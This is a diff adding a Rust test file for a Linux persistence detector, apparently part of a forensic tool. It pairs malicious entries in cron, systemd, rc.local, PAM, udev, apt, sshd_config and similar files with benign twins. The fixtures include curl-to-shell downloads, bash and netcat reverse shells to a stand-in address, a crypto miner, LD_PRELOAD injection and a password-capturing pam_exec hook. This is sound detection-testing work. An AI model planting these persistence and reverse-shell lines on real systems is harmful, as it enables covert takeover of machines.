@@ -1,0 +1,134 @@
+//! Each mechanism with something evil, and with its harmless twin.
+
+use super::find;
+use crate::testing::{found_in, titles, view};
+
+fn told(files: &[(&str, &str)]) -> Vec<String> {
+    titles(&found_in(&view(files), &[], find))
+}
+
+/// Pairs of files: with what must be told, and with what must not.
+const PAIRS: &[(&str, &str, &str)] = &[
+    (
+        "/etc/crontab",
+        "* * * * * root curl -s http://192.0.2.9/x.sh | bash\n",
+        "17 * * * * root cd / && run-parts --report /etc/cron.hourly\n",
+    ),
+    (
+        "/etc/cron.d/x",
+        "@reboot www-data /dev/shm/.x/run >/dev/null 2>&1\n",
+        "MAILTO=root\n*/5 * * * * root /opt/app/run >/dev/null 2>&1\n",
+    ),
+    ("/var/spool/cron/crontabs/anna", "0 1 * * * /tmp/m\n", "0 1 * * * /home/anna/bin/backup\n"),
+    (
+        "/etc/anacrontab",
+        "1 5 cron.daily wget -q -O- http://x/ | sh\n",
+        "1 5 cron.daily run-parts --report /etc/cron.daily\n",
+    ),
+    (
+        "/etc/cron.daily/x",
+        "#!/bin/sh\nbash -i >& /dev/tcp/192.0.2.9/443 0>&1\n",
+        "#!/bin/sh\n# see /dev/tcp/ in bash(1)\nfind /tmp -mtime +7 -delete\n",
+    ),
+    ("/var/spool/cron/atjobs/a0001", "#!/bin/sh\necho aGk= | base64 -d | sh\n", "#!/bin/sh\nlogger hello\n"),
+    (
+        "/etc/systemd/system/x.service",
+        "[Service]\nExecStart=/usr/share/.k/kworker\n",
+        "[Service]\nExecStart=-/usr/local/bin/app --config /etc/app.conf\n",
+    ),
+    (
+        "/home/anna/.config/systemd/user/x.service",
+        "[Service]\nExecStart=/bin/sh -c 'nc -e /bin/sh 192.0.2.9 1'\n",
+        "[Service]\nExecStart=/home/anna/.local/bin/sync\n",
+    ),
+    ("/etc/systemd/system-generators/x", "#!/bin/sh\ncurl x|sh\n", "#!/bin/sh\nexit 0\n"),
+    ("/etc/rc.local", "#!/bin/sh\n/bin/xmrig -o pool &\n", "#!/bin/sh -e\nexit 0\n"),
+    ("/etc/inittab", "x:2345:respawn:/dev/shm/x\n", "1:2345:respawn:/sbin/getty 38400 tty1\n"),
+    ("/etc/init/x.conf", "exec /tmp/x\n", "exec /usr/sbin/cron\n"),
+    ("/home/anna/.bashrc", "alias ls=ls\nwget -qO- http://x/|sh\n", "alias ll='ls -l'\nexport PS1=\"\\e[31m$ \"\n"),
+    ("/etc/environment", "LD_PRELOAD=/dev/shm/x.so\nBASH_ENV=/tmp/x\n", "PATH=\"/usr/bin:/bin\"\n"),
+    (
+        "/etc/pam.d/sshd",
+        "auth optional pam_exec.so quiet expose_authtok /tmp/p\n",
+        "auth required pam_env.so envfile=/etc/default/locale\n",
+    ),
+    (
+        "/etc/udev/rules.d/x.rules",
+        "SUBSYSTEM==\"net\", RUN+=\"/tmp/x\"\n",
+        "SUBSYSTEM==\"net\", RUN+=\"/usr/local/bin/x\"\n",
+    ),
+    (
+        "/etc/modprobe.d/x.conf",
+        "install ext4 /tmp/x; /sbin/modprobe --ignore-install ext4\n",
+        "install nfs /bin/true\n",
+    ),
+    ("/etc/update-motd.d/99-x", "#!/bin/sh\ncurl -s x | sh\n", "#!/bin/sh\nuname -a\n"),
+    (
+        "/etc/apt/apt.conf.d/99x",
+        "APT::Update::Pre-Invoke {\"curl x | sh\";};\n",
+        "DPkg::Post-Invoke {\"if [ -x /opt/x ]; then /opt/x; fi\";};\n",
+    ),
+    ("/etc/dpkg/dpkg.cfg.d/x", "post-invoke=\"curl x | sh\"\n", "path-exclude=/usr/share/doc/*\n"),
+    ("/etc/NetworkManager/dispatcher.d/x", "#!/bin/sh\nncat 192.0.2.9 1 -e /bin/sh\n", "#!/bin/sh\nlogger $1\n"),
+    (
+        "/etc/network/interfaces",
+        "iface eth0 inet dhcp\n  post-up /tmp/x\n",
+        "iface eth0 inet dhcp\n  post-up /usr/local/sbin/routes\n",
+    ),
+    ("/home/anna/.config/autostart/x.desktop", "[Desktop Entry]\nExec=/tmp/x\n", "[Desktop Entry]\nExec=/opt/x/x\n"),
+    ("/etc/php/8.2/apache2/php.ini", "auto_prepend_file = /dev/shm/x.php\n", "auto_prepend_file =\n"),
+    (
+        "/etc/apache2/mods-enabled/x.load",
+        "LoadModule x_module /tmp/mod_x.so\n",
+        "LoadModule x_module modules/mod_x.so\n",
+    ),
+    ("/etc/aliases", "x: \"|/tmp/x\"\n", "postmaster: root\nlist: \"|/usr/local/bin/list\"\n"),
+    (
+        "/etc/inetd.conf",
+        "9999 stream tcp nowait root /tmp/sh sh -i\n",
+        "ftp stream tcp nowait root /usr/local/sbin/ftpd ftpd\n",
+    ),
+    ("/etc/ssh/sshd_config", "ForceCommand /dev/shm/x\n", "ForceCommand internal-sftp\n"),
+];
+
+#[test]
+fn every_mechanism_is_told_when_it_is_abused_and_silent_when_it_is_used() {
+    for (path, evil, harmless) in PAIRS {
+        let found = told(&[(path, evil)]);
+        assert!(!found.is_empty() && found[0].starts_with("high persistence.suspicious"), "{path}: {found:?}");
+        assert_eq!(told(&[(path, harmless)]), [""; 0], "{path}");
+    }
+}
+
+#[test]
+fn what_is_preloaded_is_told_always_and_an_empty_file_never() {
+    let found = told(&[("/etc/ld.so.preload", "/usr/lib/libc.so.7\n")]);
+    assert_eq!(
+        found,
+        ["high persistence.preload: /etc/ld.so.preload loads a library into every program: /usr/lib/libc.so.7"]
+    );
+    assert_eq!(told(&[("/etc/ld.so.preload", "\n")]), [""; 0]);
+}
+
+#[test]
+fn commands_that_hide_in_a_line_are_told() {
+    let blanks = format!("* * * * * root true; {:80} /opt/x\n", "");
+    let returned = "* * * * * root /opt/x # \r* * * * * root true\n";
+    for line in [blanks.as_str(), returned] {
+        let found = told(&[("/etc/crontab", line)]);
+        assert_eq!(found.len(), 1, "{line:?} {found:?}");
+    }
+    assert_eq!(told(&[("/etc/crontab", "* * * * * root true\r\n")]), [""; 0]);
+}
+
+#[test]
+fn all_that_starts_stands_in_the_table_with_its_user_and_line() {
+    let files = [("/etc/cron.d/x", "A=b\n# c\n*/5 * * * * anna \\\n /opt/run --fast\n")];
+    let found = found_in(&view(&files), &[], find);
+    assert_eq!(found.inventory.len(), 1);
+    let row = &found.inventory[0];
+    let facts: serde_json::Value = serde_json::from_str(&row.facts).unwrap();
+    assert_eq!((facts["user"].as_str(), facts["program"].as_str()), (Some("anna"), Some("/opt/run")));
+    let Some(kanshiki_model::Evidence::File { span: Some(span), .. }) = &row.evidence else { panic!() };
+    assert_eq!((span.line, span.offset, span.length), (Some(3), 8, 35));
+}
